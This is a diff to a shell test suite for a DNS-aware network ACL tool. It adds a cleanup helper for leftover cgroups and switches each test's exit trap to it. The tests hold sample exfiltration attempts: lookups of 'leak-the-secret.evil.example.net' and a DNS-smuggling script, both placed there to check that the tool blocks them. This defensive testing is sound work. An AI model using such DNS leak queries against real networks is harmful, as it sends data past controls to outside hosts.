@@ -45,6 +45,18 @@ EOF
   rc=$?
 }
 
+# run_cleanup, and the cgroups of runs of $KT that died without taking
+# theirs down (a test that killed its run, or a run that crashed)
+dns_cleanup() {
+  local d
+  for d in "$CG2"/netacl/"$KT"@run-*; do
+    [ -d "$d" ] || continue
+    echo 1 > "$d/cgroup.kill" 2>/dev/null
+    for _ in $(seq 50); do rmdir "$d" 2>/dev/null && break; sleep 0.1; done
+  done
+  run_cleanup
+}
+
 # dns_policy NAME [MORE YAML LINES]: an admit ACL named NAME
 dns_policy() {
   { echo "version: 1"; echo "acls:"; echo "  $1:"; echo "    dns: admit"; echo "    allow:"
@@ -54,7 +66,7 @@ dns_policy() {
 }
 
 test_kernel_dns_rotating_answers_never_refused() {
-  need_kernel dnsrot; trap run_cleanup EXIT
+  need_kernel dnsrot; trap dns_cleanup EXIT
   dns_policy "$KT"
   # 1,000 resolve-then-connect rounds, each answer a new address (TTL 1)
   in_world "nameserver 192.0.2.53" "nrun -- \$W rounds 1000 rotate.cdn.example.com 4"
@@ -65,7 +77,7 @@ test_kernel_dns_rotating_answers_never_refused() {
 }
 
 test_kernel_dns_names_outside_the_policy_never_leave() {
-  need_kernel dnsnx; trap run_cleanup EXIT
+  need_kernel dnsnx; trap dns_cleanup EXIT
   dns_policy "$KT"
   in_world "nameserver 192.0.2.53" "nrun -- sh -c '\$W resolve leak-the-secret.evil.example.net; \$W resolve x.cdn.example.com; \$W raw 192.0.2.53 secret.evil.example.net'"
   expect_rc 0 || return 1
@@ -77,7 +89,7 @@ test_kernel_dns_names_outside_the_policy_never_leave() {
 }
 
 test_kernel_dns_only_answered_public_addresses_open() {
-  need_kernel dnsonly; trap run_cleanup EXIT
+  need_kernel dnsonly; trap dns_cleanup EXIT
   dns_policy "$KT" '      - "rebind.cdn.example.com:80"'
   in_world "nameserver 192.0.2.53" "nrun -- sh -c '\$W resolve a.cdn.example.com; \$W connect 93.184.77.77; \$W resolve rebind.cdn.example.com; \$W connect 192.168.1.10'"
   expect_rc 0 || return 1
@@ -88,7 +100,7 @@ test_kernel_dns_only_answered_public_addresses_open() {
 }
 
 test_kernel_dns_transports_and_families() {
-  need_kernel dnstr; trap run_cleanup EXIT
+  need_kernel dnstr; trap dns_cleanup EXIT
   dns_policy "$KT"
   local w='$W rounds 20 t.cdn.example.com any; $W raw 192.0.2.53 u.cdn.example.com; $W raw 2001:db8::53 v.cdn.example.com AAAA; $W raw ::ffff:192.0.2.53 w.cdn.example.com'
   # glibc over connected UDP, IPv4 resolver
@@ -106,7 +118,7 @@ options use-vc" "nrun -- \$W rounds 20 t.cdn.example.com any"
 }
 
 test_kernel_dns_admissions_expire_and_are_capped() {
-  need_kernel dnsexp; trap run_cleanup EXIT
+  need_kernel dnsexp; trap dns_cleanup EXIT
   dns_policy "$KT"
   # TTL 1, no floor, 1 s of grace: refused (and deleted by the 1 s tick)
   # 4 s later.  At most 4 per name:
@@ -127,7 +139,7 @@ test_kernel_dns_admissions_expire_and_are_capped() {
 }
 
 test_kernel_dns_no_forwarder_fails_closed() {
-  need_kernel dnsnofwd; trap run_cleanup EXIT
+  need_kernel dnsnofwd; trap dns_cleanup EXIT
   # the resolver's address is allowed too: captured DNS still may not go there
   dns_policy "$KT" '      - "93.184.0.53:53"' '      - "[2606:2800::53]:53"'
   mkdir -p "$CG2/$KCG"
@@ -143,7 +155,7 @@ test_kernel_dns_no_forwarder_fails_closed() {
 }
 
 test_kernel_dns_forwarder_killed_admits_nothing_and_entries_still_expire() {
-  need_kernel dnskill; trap run_cleanup EXIT
+  need_kernel dnskill; trap dns_cleanup EXIT
   dns_policy "$KT"
   # the workload kills netacl run (its parent, the forwarder) and lives on
   # in the cgroup, still loaded: its answered address expires all the same
@@ -155,13 +167,11 @@ test_kernel_dns_forwarder_killed_admits_nothing_and_entries_still_expire() {
   [ "$(tr '\n' ' ' < "$T/out")" = "ok error: [Errno -3] Temporary failure in name resolution ok EPERM " ] ||
     fail "want ok, no lookup, ok (unexpired), EPERM (expired); got: $(tr '\n' ' ' < "$T/out")"
   ! grep -q "x.cdn.example.com" "$T/qlog" || fail "a query went upstream with no forwarder"
-  run "$NETACL" unload --all; expect_rc 0 || return 1
-  rmdir "$CG2"/netacl/"$KT"@run-* 2>/dev/null
-  true
+  run "$NETACL" unload --all; expect_rc 0
 }
 
 test_kernel_dns_curl_and_urllib_by_name() {
-  need_kernel dnshttp; trap run_cleanup EXIT
+  need_kernel dnshttp; trap dns_cleanup EXIT
   dns_policy "$KT" '      - "web.example.com:8080"'
   local get='import sys, urllib.request
 print(urllib.request.urlopen("http://web.example.com:8080/", timeout=5).status)'
@@ -176,7 +186,7 @@ print(urllib.request.urlopen("http://web.example.com:8080/", timeout=5).status)'
 }
 
 test_kernel_dns_admissions_survive_a_reload() {
-  need_kernel dnsreload; trap run_cleanup EXIT
+  need_kernel dnsreload; trap dns_cleanup EXIT
   dns_policy "$KT"
   cp "$T/p.yaml" "$T/p2.yaml"
   echo '      - "93.184.250.250:80"' >> "$T/p2.yaml"
@@ -195,7 +205,7 @@ test_kernel_dns_admissions_survive_a_reload() {
 }
 
 test_kernel_dns_spoofed_answers_admit_nothing() {
-  need_kernel dnsspoof; trap run_cleanup EXIT
+  need_kernel dnsspoof; trap dns_cleanup EXIT
   dns_policy "$KT"
   # upstream answers with another ID (93.184.216.99), or with the right
   # ID and another question (93.184.216.98): neither is taken
@@ -208,7 +218,7 @@ test_kernel_dns_spoofed_answers_admit_nothing() {
 }
 
 test_kernel_dns_inspect_and_explain_show_admissions() {
-  need_kernel dnsinsp; trap run_cleanup EXIT
+  need_kernel dnsinsp; trap dns_cleanup EXIT
   dns_policy "$KT"
   in_world "nameserver 192.0.2.53" "nrun -- sh -c '
       a=\$(\$W resolve a.cdn.example.com | cut -d\" \" -f2); echo \$a
@@ -227,7 +237,7 @@ test_kernel_dns_inspect_and_explain_show_admissions() {
 }
 
 test_kernel_dns_serve_loaded_targets_and_status() {
-  need_kernel dnsserve; trap run_cleanup EXIT
+  need_kernel dnsserve; trap dns_cleanup EXIT
   dns_policy "$KT"
   mkdir -p "$CG2/$KCG"
   load_ok "$T/p.yaml" --target "$KT" --offline --cgroup "$CG2/$KCG" || return 1
@@ -260,7 +270,7 @@ test_kernel_dns_serve_loaded_targets_and_status() {
 }
 
 test_kernel_dns_example_and_unit() {
-  need_kernel dnsunit; trap run_cleanup EXIT
+  need_kernel dnsunit; trap dns_cleanup EXIT
   # the example policy, its ACL named like the test target
   sed "s|^  plugin:|  $KT:|" "$ROOT/examples/live-dns.yaml" > "$T/p.yaml"
   local serve; serve=$(unit_cmd netacl-dns.service ExecStart | sed "s|$ROOT/examples/live-dns.yaml|$T/p.yaml|")
@@ -280,7 +290,7 @@ test_kernel_dns_example_and_unit() {
 }
 
 test_kernel_dns_trace_shows_lookups() {
-  need_kernel dnstrace; trap run_cleanup EXIT
+  need_kernel dnstrace; trap dns_cleanup EXIT
   dns_policy "$KT" '      - "rebind.cdn.example.com:80"'
   in_world "nameserver 192.0.2.53" "
     \"\$NETACL\" trace --json > \$T/ev.json 2>\$T/trace.err &
@@ -301,7 +311,7 @@ for l in open(sys.argv[1]):
 }
 
 test_kernel_dns_upstream_source_ports_change() {
-  need_kernel dnsports; trap run_cleanup EXIT
+  need_kernel dnsports; trap dns_cleanup EXIT
   dns_policy "$KT"
   # 200 queries at once, answered after 0.3 s: c-ares alone sends queries
   # that overlap from one socket, so from one source port
@@ -327,7 +337,7 @@ E
 }
 
 test_kernel_dns_flood_is_bounded() {
-  need_kernel dnsflood; trap run_cleanup EXIT
+  need_kernel dnsflood; trap dns_cleanup EXIT
   dns_policy "$KT"
   cat > "$T/flood.py" <<'E'
 import socket
@@ -360,7 +370,7 @@ E
 }
 
 test_kernel_dns_clients_that_hang_up_do_not_kill_the_forwarder() {
-  need_kernel dnshup; trap run_cleanup EXIT
+  need_kernel dnshup; trap dns_cleanup EXIT
   dns_policy "$KT"
   # 50 TCP clients send 20 queries each and close without reading: the
   # answers then meet closed sockets (EPIPE, and SIGPIPE unless avoided)
@@ -380,7 +390,7 @@ E
 }
 
 test_kernel_dns_nothing_but_the_question_goes_upstream() {
-  need_kernel dnsclean; trap run_cleanup EXIT
+  need_kernel dnsclean; trap dns_cleanup EXIT
   dns_policy "$KT"
   cat > "$T/smuggle.py" <<'E'
 import socket
@@ -410,7 +420,7 @@ E
 }
 
 test_kernel_dns_an_address_keeps_only_what_its_live_names_allow() {
-  need_kernel dnsnarrow; trap run_cleanup EXIT
+  need_kernel dnsnarrow; trap dns_cleanup EXIT
   dns_policy "$KT" '      - "shared.example.org:8080"'
   # one address, answered for two names: short.cdn.example.com (port 80,
   # TTL 1) and shared.example.org (port 8080, TTL 60); once the first
